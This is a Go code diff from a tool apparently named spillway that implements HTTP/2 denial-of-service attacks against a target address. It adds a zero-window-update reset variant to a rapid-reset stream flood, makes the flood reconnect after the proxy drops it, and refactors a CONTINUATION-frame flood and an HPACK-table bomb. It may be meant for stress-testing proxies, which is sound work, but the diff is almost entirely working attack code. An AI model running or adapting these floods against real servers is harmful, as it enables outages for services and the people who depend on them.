@@ -12,27 +12,44 @@ import (
 	"github.com/seed90641741/spillway/cmd/spillway/internal/frames"
 )
 
-// rapidReset: 2,000 streams a second on one connection, at full strength 8,000, each taken back
-// at once: with a body to come, as a body is what there is to hold.
+// rapidReset: 2,000 streams a second on one connection, at full strength 8,000, each canceled
+// at once, before its body: a server may keep what it has for the body.
 func rapidReset(ctx context.Context, s *stage) error {
+	s.manyStreams(ctx, frames.Cancel)
+	return nil
+}
+
+// madeReset is the same with an error for which the server resets the stream: a window that
+// grows by 0.
+func madeReset(ctx context.Context, s *stage) error {
+	s.manyStreams(ctx, func(stream uint32) string { return frames.Increment(stream, 0) })
+	return nil
+}
+
+// manyStreams begins streams until ctx ends, and sends after each how it ends. When the proxy
+// closes the connection, the client makes another one.
+func (s *stage) manyStreams(ctx context.Context, end func(stream uint32) string) {
 	for ctx.Err() == nil {
 		c, err := second(ctx, s.address, "")
 		if err != nil {
-			return nil //nolint:nilerr // a proxy may reject such connections
+			<-time.After(10 * time.Millisecond) // a proxy may reject such connections
+			continue
 		}
+		open, broken := context.WithCancel(ctx)
 		stream := uint32(1)
-		every(ctx, 10*time.Millisecond, func(int) {
+		every(open, 10*time.Millisecond, func(int) {
 			var b strings.Builder
 			for range strength(20, 80) {
-				b.WriteString(post(stream) + frames.Cancel(stream))
+				b.WriteString(post(stream) + end(stream))
 				stream += 2
 			}
 			if _, err := io.WriteString(c, b.String()); err != nil {
 				_ = c.Close()
+				broken()
 			}
 		})
+		broken()
 	}
-	return nil
 }
 
 // fewFiles: 400 clients that keep their connections, and ask now and then.
@@ -53,31 +70,29 @@ func fewFiles(ctx context.Context, s *stage) error {
 }
 
 func continuations(ctx context.Context, s *stage) error {
-	every(ctx, 20*time.Millisecond, func(int) {
-		c, err := second(ctx, s.address, "")
-		if err != nil {
-			return
-		}
-		defer c.Close()
-		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
-		_, _ = io.WriteString(c, frames.Of(frames.Headers, 0, 1, "")+strings.Repeat(frames.Of(frames.Continuation, 0, 1, frames.Fields("a", "b")), 2000))
-	})
+	flood := frames.Of(frames.Headers, 0, 1, "") + strings.Repeat(frames.Of(frames.Continuation, 0, 1, frames.Fields("a", "b")), 2000)
+	every(ctx, 20*time.Millisecond, func(int) { s.sendOnce(ctx, flood) })
 	return nil
+}
+
+// sendOnce sends text on a new connection of HTTP/2, for a second at most, and hangs up.
+func (s *stage) sendOnce(ctx context.Context, text string) {
+	c, err := second(ctx, s.address, "")
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	_ = c.SetWriteDeadline(time.Now().Add(time.Second))
+	_, _ = io.WriteString(c, text)
 }
 
 // hpackBomb: one large header in the table, and thousands of references to it.
 func hpackBomb(ctx context.Context, s *stage) error {
 	value := strings.Repeat("x", 4000)
 	insert := "\x40\x01a\x7f" + string([]byte{byte(len(value) - 127 | 0x80), byte((len(value) - 127) >> 7)}) + value
-	every(ctx, 20*time.Millisecond, func(int) {
-		c, err := second(ctx, s.address, "")
-		if err != nil {
-			return
-		}
-		defer c.Close()
-		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
-		_, _ = io.WriteString(c, frames.Of(frames.Headers, frames.EndHeaders|frames.EndStream, 1, frames.Fields(":method", "GET", ":scheme", "http", ":path", "/", ":authority", "a")+insert+strings.Repeat("\xbe", 8000)))
-	})
+	bomb := frames.Of(frames.Headers, frames.EndHeaders|frames.EndStream, 1,
+		frames.Fields(":method", "GET", ":scheme", "http", ":path", "/", ":authority", "a")+insert+strings.Repeat("\xbe", 8000))
+	every(ctx, 20*time.Millisecond, func(int) { s.sendOnce(ctx, bomb) })
 	return nil
 }
 
